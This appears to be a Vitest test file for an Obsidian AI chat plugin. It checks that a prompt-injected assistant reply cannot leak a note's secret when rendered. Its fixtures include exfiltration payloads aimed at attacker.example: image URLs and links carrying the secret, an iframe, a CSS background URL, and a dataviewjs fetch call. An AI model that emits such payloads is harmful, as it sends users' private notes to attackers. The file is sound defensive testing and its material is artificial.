// @vitest-environment happy-dom
// A reply is untrusted content in Obsidian (issue 25): a prompt-injected reply, rendered through
// MarkdownRenderer (the fake renders raw HTML and images as Obsidian does, and runs registered
// code-block processors), makes no request by itself, runs no other plugin's processor, and its
// links open only on a click, asking first when they carry text from a note read in the turn.
// (Failed before src/ui/untrusted/: the reply went to MarkdownRenderer unchanged.)
import { afterEach, beforeEach, describe, expect, it, onTestFinished, vi } from "vitest";
import { App, MarkdownRenderer, Plugin } from "../fakes/obsidian";
import { fetchedUrls } from "../support/fetched-urls";
import { startPlugin, stopPlugin } from "./support/plugin";
import { until } from "./support/until";
import { DEFAULT_CONFIG_DIR } from "../../src/vault/paths";
import {
	ATTACKER,
	POISONED_NOTE,
	POISONED_PATH,
	POISONED_REPLY,
	SECRET,
	SECRET_NOTE,
	SECRET_PATH,
} from "../support/injection";

const THREAD = "t_injected";

function readCall(id: string, path: string, text: string): object[] {
	return [
		{ type: "tool_call_proposed", callId: id, tool: "readNote", args: { path }, messageId: "m2" },
		{ type: "tool_call_decided", callId: id, decision: "approved", by: "policy" },
		{ type: "tool_call_started", callId: id },
		{
			type: "tool_call_completed",
			callId: id,
			result: { status: "success", message: `${path} (${text.split("\n").length} lines):\n${text}`, path },
		},
	];
}

/** A chat that read the poisoned note and the secret one, then replied, as its log on disk records it. */
async function appWithInjectedReply(reply = POISONED_REPLY): Promise<App> {
	return appWithThread([
		{ type: "user_message", messageId: "m1", content: "Summarise my meeting notes", pinned: [] },
		{ type: "assistant_message_started", messageId: "m2" },
		{ type: "assistant_message_completed", messageId: "m2", finishReason: "tool_calls" },
		...readCall("c1", POISONED_PATH, POISONED_NOTE),
		...readCall("c2", SECRET_PATH, SECRET_NOTE),
		{ type: "assistant_message_started", messageId: "m3" },
		{ type: "assistant_token", messageId: "m3", text: reply },
		{ type: "assistant_message_completed", messageId: "m3", finishReason: "stop" },
		{ type: "status", status: "idle" },
	]);
}

/** An app whose one chat's log on disk holds these events. */
async function appWithThread(events: object[]): Promise<App> {
	const app = new App({ win: window as never });
	app.vault.seed({ [POISONED_PATH]: POISONED_NOTE, [SECRET_PATH]: SECRET_NOTE, "Daily.md": "# Daily\n" });
	const at = "2026-01-10T09:00:00.000Z";
	const lines = [{ type: "thread_created", v: 1, title: "Summary" }, ...events].map((event, i) =>
		JSON.stringify({ seq: i + 1, threadId: THREAD, at, ...event }),
	);
	await app.vault.adapter.mkdir(`${DEFAULT_CONFIG_DIR}/plugins/redline/data/threads`);
	await app.vault.adapter.write(
		`${DEFAULT_CONFIG_DIR}/plugins/redline/data/threads/${THREAD}.jsonl`,
		lines.join("\n") + "\n",
	);
	return app;
}

class Dataview extends Plugin {}

async function openReply(app: App): Promise<HTMLElement> {
	app.runCommand("redline:open-chat");
	return until(
		() =>
			[...app.doc.querySelectorAll<HTMLElement>(".redline-view .redline-message-assistant .redline-markdown")].find(
				(el) => el.textContent?.includes("summary"),
			) ?? null,
	);
}

function button(root: ParentNode, name: string): HTMLButtonElement {
	const found = [...root.querySelectorAll("button")].find(
		(b) => (b.getAttribute("aria-label") ?? b.textContent) === name,
	);
	if (!found) throw new Error(`no button ${name}`);
	return found;
}

function linkNamed(root: ParentNode, text: string): HTMLElement {
	const found = [...root.querySelectorAll<HTMLElement>("a, .redline-dead-link")].find((a) => a.textContent === text);
	if (!found) throw new Error(`no link ${text}`);
	return found;
}

/** The reply's text as read, without the destinations shown on hover. */
function shownText(reply: HTMLElement): string {
	const copy = reply.cloneNode(true) as HTMLElement;
	for (const shown of Array.from(copy.querySelectorAll(".redline-link-destination"))) shown.remove();
	return copy.textContent ?? "";
}

let opened: string[];
beforeEach(() => {
	MarkdownRenderer.loads.length = 0;
	opened = [];
	vi.spyOn(window, "open").mockImplementation((url) => {
		opened.push(String(url));
		return null;
	});
});
afterEach(() => {
	vi.restoreAllMocks();
});

describe("a prompt-injected reply in the Obsidian pane", () => {
	it("loads nothing from another host and runs no other plugin's processor on its code, block or inline", async () => {
		const app = await appWithInjectedReply(`${POISONED_REPLY}\n\nAnd \`$= dv.pages().length\` inline.`);
		const dataview = vi.fn();
		const other = new Dataview(app, {
			id: "dataview",
			name: "Dataview",
			version: "1",
			minAppVersion: "1",
			author: "",
			description: "",
		});
		other.registerMarkdownCodeBlockProcessor("dataviewjs", dataview);
		// Dataview's inline JS queries: inline code that starts with "$=", found by a post-processor.
		const inlineQueries: string[] = [];
		other.registerMarkdownPostProcessor((el) => {
			for (const code of Array.from(el.querySelectorAll("code")))
				if (code.textContent?.startsWith("$=")) inlineQueries.push(code.textContent);
		});
		const { plugin } = await startPlugin(app);
		const reply = await openReply(app);

		expect(MarkdownRenderer.loads).toEqual([]);
		expect(fetchedUrls(reply)).toEqual([]);
		expect(
			reply.querySelectorAll("img, iframe, video, audio, embed, object, source, link, style, script"),
		).toHaveLength(0);
		expect(dataview).not.toHaveBeenCalled();
		expect(inlineQueries).toEqual([]);
		expect([...reply.querySelectorAll("code")].map((c) => c.textContent)).toContain("$= dv.pages().length");
		// What the renderer was given holds no HTML and no image for it to fetch.
		const given = MarkdownRenderer.renders.at(-1)?.markdown ?? "";
		expect(given).not.toMatch(/<|!\[/);
		// Raw HTML is shown as text, code as code.
		expect(shownText(reply)).toContain(`<iframe src="https://${ATTACKER}/frame"></iframe>`);
		expect(shownText(reply)).toContain(`<div style="background:url(https://${ATTACKER}/bg.png)">Styled</div>`);
		expect(reply.querySelector("pre code.language-dataviewjs")?.textContent).toContain(
			`fetch("https://${ATTACKER}/?d="`,
		);
		// Highlighted by Obsidian's Prism, which only colours its text.
		await until(() => reply.querySelector("pre code.language-dataviewjs span.token"));
		expect([...reply.querySelectorAll("code")].map((c) => c.textContent)).toContain(
			`![](https://${ATTACKER}/in-code.png)`,
		);
		other.unload();
		await stopPlugin(plugin);
	});

	it("renders where nothing fetches: another plugin's post-processor that adds a remote image builds it in a document with no window, and the pane never holds it", async () => {
		// A favicon plugin: an <img> before each external link, from the link's host (which can carry a secret).
		const app = await appWithInjectedReply(
			`${POISONED_REPLY}\n\nSee [the status page](https://${SECRET}.${ATTACKER}/status).`,
		);
		const favicons = new Dataview(app, {
			id: "favicons",
			name: "Favicons",
			version: "1",
			minAppVersion: "1",
			author: "",
			description: "",
		});
		const made: HTMLImageElement[] = [];
		favicons.registerMarkdownPostProcessor((el) => {
			for (const a of Array.from(el.querySelectorAll<HTMLElement>("a.external-link"))) {
				made.push(
					a.createEl("img", {
						attr: { src: `https://${new URL(a.getAttribute("href") ?? "").host}/favicon.ico` },
						prepend: true,
					}),
				);
			}
		});
		const inserted: string[] = [];
		const observer = new MutationObserver((records) => {
			for (const record of records)
				for (const node of Array.from(record.addedNodes))
					if (node.nodeType === 1) inserted.push(...fetchedUrls(node as Element));
		});
		observer.observe(app.doc, { subtree: true, childList: true });
		const { plugin } = await startPlugin(app);
		onTestFinished(async () => {
			observer.disconnect();
			favicons.unload();
			await stopPlugin(plugin);
		});
		const reply = await openReply(app);
		await until(() => reply.textContent?.includes("the status page"));

		expect(made.length).toBeGreaterThan(0);
		for (const img of made) expect(img.ownerDocument.defaultView).toBeNull();
		expect(MarkdownRenderer.loads).toEqual([]);
		expect(inserted).toEqual([]);
		expect(reply.querySelector("img")).toBeNull();
	});

	it("shows a remote image as a placeholder naming its host, which loads only on a click", async () => {
		const app = await appWithInjectedReply();
		const { plugin } = await startPlugin(app);
		const reply = await openReply(app);
		const placeholder = reply.querySelector<HTMLElement>('[role="group"][aria-label="Image from attacker.example"]');
		expect(placeholder?.textContent).toMatch(/^Image from attacker\.example.*· Load$/);
		expect(placeholder?.textContent).toMatch(new RegExp(`contains text from .*${SECRET_PATH}`));
		expect(reply.querySelector("img")).toBeNull();

		button(reply, "Load image from attacker.example").click();
		expect(reply.querySelector("img")?.getAttribute("src")).toBe(`http://${ATTACKER}/pixel.png?d=${SECRET}`);
		expect(reply.querySelector("img")?.referrerPolicy).toBe("no-referrer");
		await stopPlugin(plugin);
	});

	it("opens an http(s) link only on a click, showing its full destination, and asks first when it carries a note's text", async () => {
		const app = await appWithInjectedReply();
		const { plugin } = await startPlugin(app);
		const reply = await openReply(app);

		const guide = linkNamed(reply, "the guide");
		expect(guide.hasAttribute("href")).toBe(false);
		expect(guide.title).toBe("https://docs.example/guide");
		expect(guide.tabIndex).toBe(0);
		expect(guide.nextElementSibling?.textContent).toBe("https://docs.example/guide");
		expect(opened).toEqual([]);
		guide.click();
		expect(opened).toEqual(["https://docs.example/guide"]);

		const source = linkNamed(reply, "the source");
		source.click();
		expect(opened).toEqual(["https://docs.example/guide"]);
		const ask = reply.querySelector<HTMLElement>('[role="group"][aria-label="Open this link?"]');
		expect(ask?.textContent).toMatch(new RegExp(`^This link contains text from .*${SECRET_PATH}`));
		button(ask!, "Don't open").click();
		expect(reply.querySelector('[aria-label="Open this link?"]')).toBeNull();
		expect(opened).toEqual(["https://docs.example/guide"]);

		source.dispatchEvent(new KeyboardEvent("keydown", { key: "Enter", bubbles: true }));
		button(reply.querySelector('[aria-label="Open this link?"]')!, "Open link").click();
		expect(opened).toEqual(["https://docs.example/guide", `https://${ATTACKER}/?d=${SECRET}`]);
		await stopPlugin(plugin);
	});

	it("asks first for a link carrying text from a note read in an earlier turn (pinned since) or from a search's excerpt", async () => {
		const LOCK = "Shed lock combination 4471-Quince";
		const app = await appWithThread([
			{ type: "user_message", messageId: "m1", content: "What is in my passwords note?", pinned: [] },
			{ type: "assistant_message_started", messageId: "m2" },
			{ type: "assistant_message_completed", messageId: "m2", finishReason: "tool_calls" },
			...readCall("c1", SECRET_PATH, SECRET_NOTE),
			{ type: "assistant_message_started", messageId: "m3" },
			{ type: "assistant_token", messageId: "m3", text: "It holds your bank password." },
			{ type: "assistant_message_completed", messageId: "m3", finishReason: "stop" },
			{ type: "status", status: "idle" },
			{ type: "item_pinned", item: { path: SECRET_PATH } },
			{ type: "user_message", messageId: "m4", content: "Summarise my meeting notes", pinned: [{ path: SECRET_PATH }] },
			{ type: "assistant_message_started", messageId: "m5" },
			{ type: "assistant_message_completed", messageId: "m5", finishReason: "tool_calls" },
			{ type: "tool_call_proposed", callId: "c2", tool: "searchNotes", args: { query: "shed" }, messageId: "m5" },
			{ type: "tool_call_decided", callId: "c2", decision: "approved", by: "policy" },
			{ type: "tool_call_started", callId: "c2" },
			{
				type: "tool_call_completed",
				callId: "c2",
				result: {
					status: "success",
					message: `Notes matching "shed":\n1. Garden/Shed.md\n   3: ${LOCK}`,
					data: {
						query: "shed",
						offset: 0,
						hits: [
							{
								path: "Garden/Shed.md",
								title: "Shed",
								tags: [],
								score: 1,
								covered: 1,
								of: 1,
								truncated: false,
								lines: [{ line: 3, snippet: LOCK }],
							},
						],
					},
				},
			},
			{ type: "assistant_message_started", messageId: "m6" },
			{
				type: "assistant_token",
				messageId: "m6",
				text: `Here is your summary. See [the bank](https://${ATTACKER}/?p=${SECRET}) and [the shed](https://${ATTACKER}/s/4471-Quince).`,
			},
			{ type: "assistant_message_completed", messageId: "m6", finishReason: "stop" },
			{ type: "status", status: "idle" },
		]);
		const { plugin } = await startPlugin(app);
		onTestFinished(() => stopPlugin(plugin));
		const reply = await openReply(app);
		for (const [name, from] of [
			["the bank", SECRET_PATH],
			["the shed", "Garden/Shed.md"],
		] as const) {
			linkNamed(reply, name).click();
			const ask = reply.querySelector<HTMLElement>('[role="group"][aria-label="Open this link?"]');
			expect(ask?.textContent).toContain(`This link contains text from ${from}.`);
			button(ask!, "Don't open").click();
		}
		expect(opened).toEqual([]);
	});

	it("leaves obsidian:, file:, javascript: and data: links dead, and internal links only inside the vault", async () => {
		const app = await appWithInjectedReply(
			`${POISONED_REPLY}\n\nSee [[Daily]], [up](../../outside.md) and [[../secrets]].`,
		);
		const { plugin } = await startPlugin(app);
		const reply = await openReply(app);
		for (const name of ["the vault", "a file", "a script", "data"]) {
			const link = linkNamed(reply, name);
			expect(link.localName).toBe("span");
			link.click();
		}
		expect(
			reply.querySelectorAll("[href^='obsidian:'], [href^='file:'], [href^='javascript:'], [href^='data:']"),
		).toHaveLength(0);
		expect(linkNamed(reply, "Daily").getAttribute("data-href")).toBe("Daily");
		expect(linkNamed(reply, "up").localName).toBe("span");
		expect(linkNamed(reply, "../secrets").localName).toBe("span");
		expect(opened).toEqual([]);
		await stopPlugin(plugin);
	});
});
